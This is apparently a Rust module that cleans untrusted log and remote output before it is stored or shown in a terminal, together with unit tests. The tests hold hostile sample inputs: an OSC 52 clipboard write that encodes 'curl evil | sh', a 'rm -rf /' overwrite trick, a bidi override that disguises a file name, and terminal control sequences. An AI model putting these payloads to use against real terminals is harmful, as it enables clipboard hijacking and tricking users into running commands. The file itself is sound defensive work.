//! Makes text from logs and remote output safe to store and draw.
//!
//! A log line is attacker-controlled input: anyone who can make a NexTalk server log a chat
//! message or a caller name can put bytes in it. Drawn raw, escape sequences could move the
//! cursor over other panes, retitle the terminal, write the engineer's clipboard (OSC 52),
//! conceal text, or rewrite a line with `\r`. So every line goes through [`sanitize_line`]
//! before it is kept anywhere.
//!
//! Escape sequences are recognised by `vte` (the parser behind Alacritty), not by a
//! hand-rolled state machine: CSI, OSC (ended by BEL or ST), DCS, SOS/PM/APC strings and lone
//! ESC are consumed whole. What is left is filtered per character: C0 and C1 controls and DEL
//! are dropped, tab becomes spaces, and Unicode bidi overrides and isolates (which can make a
//! terminal show text in a different order than it is stored, "Trojan Source") are dropped too.
//! Invalid UTF-8 becomes U+FFFD.

use unicode_width::UnicodeWidthChar;

/// Tab stops every 8 columns, as a terminal would place them.
const TAB_WIDTH: usize = 8;

/// One line of untrusted bytes (without its line ending) to printable text.
///
/// Each call uses a fresh parser, so an unterminated sequence in one line cannot swallow the
/// lines after it.
pub fn sanitize_line(bytes: &[u8]) -> String {
    // Fast path: almost every log line is plain printable text. Checking is much cheaper than
    // running the parser, and the result is identical.
    if let Ok(s) = std::str::from_utf8(bytes)
        && s.chars().all(is_plain)
    {
        return s.to_owned();
    }
    let mut out = Printable { text: String::with_capacity(bytes.len()), col: 0 };
    let mut parser = vte::Parser::new();
    parser.advance(&mut out, bytes);
    // A line that ends inside a UTF-8 sequence leaves it buffered in the parser; a line feed
    // makes the parser give it up as U+FFFD (the line feed itself is a control and dropped).
    parser.advance(&mut out, b"\n");
    out.text
}

/// [`sanitize_line`] for text that is already a `str` (remote command output, error text).
/// Multi-line text keeps its line breaks; each line is sanitised on its own.
pub fn sanitize_text(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for (i, line) in text.split('\n').enumerate() {
        if i > 0 {
            out.push('\n');
        }
        out.push_str(&sanitize_line(line.strip_suffix('\r').unwrap_or(line).as_bytes()));
    }
    out
}

/// True when the character can be drawn as is.
fn is_plain(c: char) -> bool {
    !(c.is_control() || is_reordering(c) || c == '\u{FEFF}')
}

/// Bidi embeddings, overrides and isolates, and the Arabic letter mark: they change the order in
/// which a terminal shows the characters that follow them.
fn is_reordering(c: char) -> bool {
    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{061C}')
}

/// The `vte` performer that keeps only printable characters.
struct Printable {
    text: String,
    /// Display column, for tab stops.
    col: usize,
}

impl vte::Perform for Printable {
    fn print(&mut self, c: char) {
        // vte hands DEL and (in UTF-8) some format characters to `print`; filter again.
        // U+FEFF is the byte order mark Windows editors put at the start of a file.
        if is_plain(c) {
            self.text.push(c);
            self.col += c.width().unwrap_or(0);
        }
    }

    fn execute(&mut self, byte: u8) {
        // Every other C0/C1 control (BEL, BS, CR, LF, VT, FF, SI/SO, 8-bit CSI…) is dropped:
        // each of them can move the cursor or change how later text is shown.
        if byte == b'\t' {
            let spaces = TAB_WIDTH - self.col % TAB_WIDTH;
            self.text.extend(std::iter::repeat_n(' ', spaces));
            self.col += spaces;
        }
    }
    // CSI, OSC, DCS, ESC dispatches keep the default (ignore), so sequences vanish whole.
}

#[cfg(test)]
mod tests {
    use super::*;

    /// No byte that a terminal treats as a control survives: no ESC, no C0 except none at all
    /// (tabs are expanded), no DEL, no C1 in UTF-8 form.
    fn assert_inert(s: &str) {
        for (i, b) in s.bytes().enumerate() {
            assert!(b >= 0x20 && b != 0x7f, "control byte {b:#04x} at {i} in {s:?}");
        }
        for c in s.chars() {
            assert!(!('\u{80}'..='\u{9f}').contains(&c), "C1 control {c:?} in {s:?}");
            assert!(!is_reordering(c), "bidi control {c:?} in {s:?}");
        }
    }

    #[test]
    fn plain_lines_pass_through_unchanged() {
        let line = "2026-11-22T03:04:05Z INFO  Chat bridge connected (café, 東京)";
        assert_eq!(sanitize_line(line.as_bytes()), line);
    }

    #[test]
    fn cursor_movement_and_erasing_are_removed() {
        // Cursor up, column 1, erase line, save/restore cursor, scroll region, alternate screen.
        let hostile = b"ok\x1b[1A\x1b[1G\x1b[2K\x1b7\x1b8\x1b[1;5r\x1b[?1049h then\x1b[H";
        let out = sanitize_line(hostile);
        assert_eq!(out.as_bytes(), b"ok then");
        assert_inert(&out);
    }

    #[test]
    fn title_changes_are_removed_with_either_terminator() {
        let bel = sanitize_line(b"a\x1b]0;pwned\x07b");
        let st = sanitize_line(b"a\x1b]2;pwned\x1b\\b");
        assert_eq!(bel.as_bytes(), b"ab");
        assert_eq!(st.as_bytes(), b"ab");
    }

    #[test]
    fn clipboard_writes_are_removed() {
        // OSC 52: set the clipboard to base64("curl evil | sh").
        let out = sanitize_line(b"log \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07line");
        assert_eq!(out.as_bytes(), b"log line");
        assert!(!out.contains("52;"));
        assert!(!out.contains("Y3Vyb"));
    }

    #[test]
    fn device_control_and_privacy_strings_are_removed() {
        let dcs = sanitize_line(b"a\x1bP1$qm\x1b\\b"); // DECRQSS: asks the terminal to reply
        let apc = sanitize_line(b"a\x1b_Gpayload\x1b\\b"); // kitty graphics
        let pm = sanitize_line(b"a\x1b^secret\x1b\\b");
        let sos = sanitize_line(b"a\x1bXsos\x1b\\b");
        for out in [dcs, apc, pm, sos] {
            assert_eq!(out.as_bytes(), b"ab");
        }
    }

    #[test]
    fn text_cannot_be_hidden_or_overwritten() {
        // Concealed text stays visible (the SGR is removed, the text stays).
        assert_eq!(sanitize_line(b"shown\x1b[8mhidden\x1b[0m").as_bytes(), b"shownhidden");
        // A carriage return or backspaces would let later text overwrite earlier text.
        assert_eq!(sanitize_line(b"rm -rf /\rls").as_bytes(), b"rm -rf /ls");
        assert_eq!(sanitize_line(b"evil\x08\x08\x08\x08good").as_bytes(), b"evilgood");
        // Right-to-left override would show "txt.exe" as "exe.txt".
        let rlo = sanitize_line("file\u{202E}txt.exe".as_bytes());
        assert_eq!(rlo, "filetxt.exe");
        assert_inert(&rlo);
    }

    #[test]
    fn lone_escape_bell_and_c1_controls_are_dropped() {
        assert_eq!(sanitize_line(b"a\x1bb\x07c\x7fd").as_bytes(), b"acd");
        // C1 as raw 8-bit bytes (invalid UTF-8) and as UTF-8 encoded code points (U+009B CSI).
        let raw = sanitize_line(b"x\x9b31my");
        assert_inert(&raw);
        assert!(!raw.as_bytes().contains(&0x9b));
        let encoded = sanitize_line("x\u{9b}31my\u{90}z".as_bytes());
        assert_inert(&encoded);
        assert_eq!(encoded, "x31myz");
    }

    #[test]
    fn invalid_utf8_is_replaced_not_dropped() {
        assert_eq!(sanitize_line(b"bad \xff\xfe byte"), "bad \u{FFFD}\u{FFFD} byte");
        // Cut off in the middle of a multi-byte character at the end of the line.
        assert_eq!(sanitize_line(b"cut \xe6\x9d"), "cut \u{FFFD}");
    }

    #[test]
    fn unterminated_sequences_do_not_leak_into_later_lines() {
        assert_eq!(sanitize_line(b"start\x1b]0;never ended"), "start");
        assert_eq!(sanitize_line(b"next line"), "next line");
    }

    #[test]
    fn tabs_become_spaces_to_the_next_stop() {
        assert_eq!(sanitize_line(b"a\tb"), "a       b");
        assert_eq!(sanitize_line(b"12345678\tx"), "12345678        x");
        assert_eq!(sanitize_line(b"\x1b[31m\tx"), "        x");
    }

    #[test]
    fn byte_order_mark_is_dropped() {
        assert_eq!(sanitize_line("\u{FEFF}2026 INFO x".as_bytes()), "2026 INFO x");
    }

    #[test]
    fn multi_line_text_keeps_its_breaks() {
        assert_eq!(sanitize_text("a\x1b[2J\r\nb\x07\nc"), "a\nb\nc");
    }

    #[test]
    fn every_single_byte_is_inert_after_sanitising() {
        for b in 0u8..=255 {
            let out = sanitize_line(&[b'<', b, b'>']);
            assert_inert(&out);
        }
        for a in [0x1bu8, 0x9b, 0x9d, 0x90] {
            for b in 0u8..=255 {
                assert_inert(&sanitize_line(&[a, b, b'x', 0x07, b'y']));
            }
        }
    }
}
